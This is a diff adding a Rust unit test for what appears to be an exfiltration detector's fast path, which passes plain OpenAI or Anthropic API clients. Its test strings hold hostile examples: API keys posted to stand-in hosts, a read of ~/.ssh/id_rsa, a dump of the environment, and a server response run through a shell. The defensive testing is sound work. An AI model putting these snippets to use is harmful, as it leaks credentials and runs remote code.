@@ -517,3 +517,45 @@ fn enumerate_and_shorthand_properties_keep_the_value() {
         fetch('https://x.example/api/paste', { method: 'POST', body });\n";
     assert!(js(t).is_empty(), "{:#?}", js(t));
 }
+
+/// The cheap check takes an ordinary client of its own provider, and only that: the file it
+/// takes gives no flow in the full analysis, and every look-alike that could hide a real flow
+/// goes to the full parse.
+#[test]
+fn own_vendor_clients_skip_the_parse_and_nothing_else_does() {
+    let take = |t: &str| own_vendor_client(t, t.to_ascii_lowercase().as_bytes());
+    let client = "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nr = requests.post(\"https://api.openai.com/v1/chat/completions\", headers={\"Authorization\": f\"Bearer {key}\"}, json=body)\n";
+    assert!(take(client));
+    assert!(
+        flows(client, Grammar::Python).is_empty(),
+        "the full analysis agrees"
+    );
+    let js = "const key = process.env.ANTHROPIC_API_KEY;\nawait fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}});\n";
+    assert!(take(js));
+    // The key sent elsewhere, a second destination, or a computed one.
+    assert!(!take(
+        &client.replace("api.openai.com", "collect.example.net")
+    ));
+    assert!(!take(&format!(
+        "{client}requests.post(\"https://hooks.example.net/x\", data=key)\n"
+    )));
+    assert!(!take(
+        "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.post(URL, data=key)\n"
+    ));
+    // Another credential, an unnamed or dumped environment, a key of no provider.
+    assert!(!take(&format!(
+        "{client}open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    )));
+    assert!(!take(
+        &client.replace("os.environ[\"OPENAI_API_KEY\"]", "dict(os.environ)")
+    ));
+    assert!(!take(
+        &client.replace("os.environ[\"OPENAI_API_KEY\"]", "os.environ[name]")
+    ));
+    assert!(!take(&client.replace("OPENAI_API_KEY", "API_KEY")));
+    // Execution, a shell, sockets: not a plain client.
+    assert!(!take(&format!(
+        "{client}import subprocess\nsubprocess.run(r.text, shell=True)\n"
+    )));
+    assert!(!take(&format!("{client}import socket\n")));
+}
